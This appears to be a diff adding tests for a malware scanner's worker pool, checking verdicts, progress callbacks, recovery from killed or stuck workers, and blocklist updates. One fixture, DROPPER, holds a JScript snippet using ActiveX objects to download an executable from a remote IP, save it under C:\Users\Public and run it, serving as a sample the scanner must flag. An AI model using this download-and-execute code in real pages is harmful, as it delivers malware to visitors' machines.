@@ -1,0 +1,88 @@
+"""ScanPool with the real engine in real worker processes: progress, verdicts, recovery."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+
+import pytest
+
+from malwaresnipper.engine.capture import Capture
+from malwaresnipper.engine.config import EngineConfig
+from malwaresnipper.engine.verdict import ThreatLevel
+from malwaresnipper.server.scanner import ScanPool, ScanTimeout
+
+DROPPER = """<html><body><script>
+var sh = new ActiveXObject("WScript.Shell");
+var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://198.51.100.7/payload.exe", false); x.send();
+var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.responseBody);
+s.SaveToFile("C:\\\\Users\\\\Public\\\\update.exe", 2); sh.Run("C:\\\\Users\\\\Public\\\\update.exe");
+</script></body></html>"""
+BENIGN = "<html><head><title>Recipes</title></head><body><p>Bake the bread for 40 minutes.</p></body></html>"
+
+
+@pytest.fixture(scope="module")
+def pool_loop():
+    loop = asyncio.new_event_loop()
+    pool = ScanPool(EngineConfig(), workers=1, timeout_s=20.0)
+    yield pool, loop
+    loop.run_until_complete(pool.close())
+    loop.close()
+
+
+def run(loop, coro):
+    return loop.run_until_complete(coro)
+
+
+def test_verdicts_and_progress_arrive_on_the_callers_loop(pool_loop):
+    pool, loop = pool_loop
+    seen: list[tuple[str, bool]] = []
+
+    def progress(p):
+        seen.append((p.layer, asyncio.get_running_loop() is loop))
+
+    verdict = run(loop, pool.scan(Capture.build("https://recipes.example/", html=BENIGN), progress=progress))
+    assert verdict.threat_level is ThreatLevel.BENIGN
+    assert [layer for layer, _ in seen] == ["url", "reputation", "javascript", "dom", "signatures", "ml"]
+    assert all(on_loop for _, on_loop in seen)
+    bad = run(loop, pool.scan(Capture.build("https://files.example/invoice.html", html=DROPPER)))
+    assert bad.threat_level is ThreatLevel.MALICIOUS
+    assert pool.queue_depth == 0
+
+
+def test_a_killed_worker_is_replaced_and_the_next_scan_completes(pool_loop):
+    pool, loop = pool_loop
+    run(loop, pool.scan(Capture.build("https://a.example/", html=BENIGN)))
+    old_pid = pool.worker_pids[0]
+    os.kill(old_pid, 9)
+    verdict = run(loop, pool.scan(Capture.build("https://b.example/", html=BENIGN)))
+    assert verdict.threat_level is ThreatLevel.BENIGN
+    assert pool.worker_pids and pool.worker_pids[0] != old_pid
+
+
+def test_a_scan_over_its_timeout_raises_and_the_pool_recovers(pool_loop):
+    pool, loop = pool_loop
+    run(loop, pool.scan(Capture.build("https://warm.example/", html=BENIGN)))
+    old_pid = pool.worker_pids[0]
+    huge = "<html><body>" + "<div><script>var a = 1; eval('a');</script></div>" * 40_000
+    pool.timeout_s = 0.02
+    try:
+        with pytest.raises(ScanTimeout):
+            run(loop, pool.scan(Capture.build("https://slow.example/", html=huge)))
+    finally:
+        pool.timeout_s = 20.0
+    verdict = run(loop, pool.scan(Capture.build("https://after.example/", html=BENIGN)))
+    assert verdict.threat_level is ThreatLevel.BENIGN
+    assert pool.worker_pids[0] != old_pid  # the stuck worker was killed, not left running
+    assert pool.timeouts >= 1
+
+
+def test_list_updates_reach_the_workers(pool_loop):
+    pool, loop = pool_loop
+    url = "https://totally-unlisted-host.example/landing"
+    before = run(loop, pool.scan(Capture.build(url)))
+    assert before.threat_level is not ThreatLevel.MALICIOUS
+    pool.update_lists([], ["totally-unlisted-host.example"])
+    after = run(loop, pool.scan(Capture.build(url + "?again")))
+    assert after.threat_level is ThreatLevel.MALICIOUS
+    pool.update_lists([], [])
